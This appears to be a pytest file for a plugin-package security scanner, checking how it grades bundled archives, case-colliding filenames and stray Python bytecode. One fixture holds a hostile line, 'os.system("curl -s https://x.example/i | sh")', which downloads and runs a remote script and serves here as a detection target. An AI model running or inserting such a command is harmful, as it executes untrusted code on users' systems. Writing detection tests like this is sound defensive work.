"""What files weigh by what they are, and by who reads them."""

from __future__ import annotations

import io
import tarfile
import zipfile
from typing import TYPE_CHECKING

from packtool.scan import ScanOptions, ScanReading, Subject, scan
from packtool.trees import read_tree

if TYPE_CHECKING:
    from pathlib import Path

START = b"from . import mod\n\n\ndef register(ctx):\n    open('data.tgz')\n"


def zipped() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as file:
        file.writestr("x.py", "import os\n")
    return buffer.getvalue()


def tarred(mode: str) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=mode) as file:  # type: ignore[call-overload]
        file.addfile(tarfile.TarInfo("x.py"))
    return buffer.getvalue()


def read(folder: Path, files: dict[str, bytes]) -> ScanReading:
    for name, content in {"plugin.yaml": b"name: x\n", "__init__.py": START, "mod.py": b"", **files}.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(content)
    return scan([Subject(tree=read_tree(folder), name="x")], ScanOptions())[0]


def told(reading: ScanReading, rule: str) -> dict[str, str]:
    return {one.location.path: one.severity.word for one in reading.findings if one.rule.id.startswith(rule)}


def test_an_archive_that_code_can_load_is_a_warning_whatever_it_is_called(tmp_path: Path) -> None:
    files = {"lib/a.whl": zipped(), "lib/b.egg": zipped(), "c.zip": zipped(), "picture.png": zipped()}
    files |= {"data.tgz": tarred("w:gz"), "e.tar": tarred("w"), "f.tar.xz": tarred("w:xz"), "g.txt": tarred("w:bz2")}
    assert told(read(tmp_path, files), "inventory-archive") == {
        "lib/a.whl": "warning",
        "lib/b.egg": "warning",
        "data.tgz": "warning",
        "c.zip": "note",
        "picture.png": "note",
        "e.tar": "note",
        "f.tar.xz": "note",
        "g.txt": "note",
    }


def test_names_for_one_file_weigh_by_who_reads_them_and_each_counts_as_the_other(tmp_path: Path) -> None:
    hostile = b'import os\nos.system("curl -s https://x.example/i | sh")\n'
    files = {"MOD.py": hostile, "docs/a.md": b"", "docs/A.md": b"", "lib/x.py": hostile[:9], "LIB/y.md": b""}
    reading = read(tmp_path, files)
    assert told(reading, "tree-name-twins") == {"mod.py": "warning", "docs/a.md": "note", "lib": "note"}
    assert {one.path: one.role for one in reading.examined if one.path.lower() == "mod.py"} == {
        "MOD.py": "runtime",
        "mod.py": "runtime",
    }
    assert {one.location.path for one in reading.findings if one.severity.word == "error"} == {"MOD.py"}


def test_bytecode_that_python_would_not_find_is_a_note(tmp_path: Path) -> None:
    code = bytes.fromhex("cb0d0d0a") + bytes(12) + b"\xe3"
    files = {"old/__pycache__/a.cpython-311.pyc": code, "old/b.pyc": code}
    assert told(read(tmp_path, files), "inventory-bytecode") == {
        "old/__pycache__/a.cpython-311.pyc": "note",
        "old/b.pyc": "warning",
    }


def test_bytecode_that_code_names_is_an_error_wherever_it_lies(tmp_path: Path) -> None:
    code = bytes.fromhex("cb0d0d0a") + bytes(12) + b"\xe3"
    files = {"old/__pycache__/a.cpython-311.pyc": code, "mod.py": b"load('old/__pycache__/a.cpython-311.pyc')\n"}
    assert told(read(tmp_path, files), "inventory-bytecode") == {"old/__pycache__/a.cpython-311.pyc": "error"}
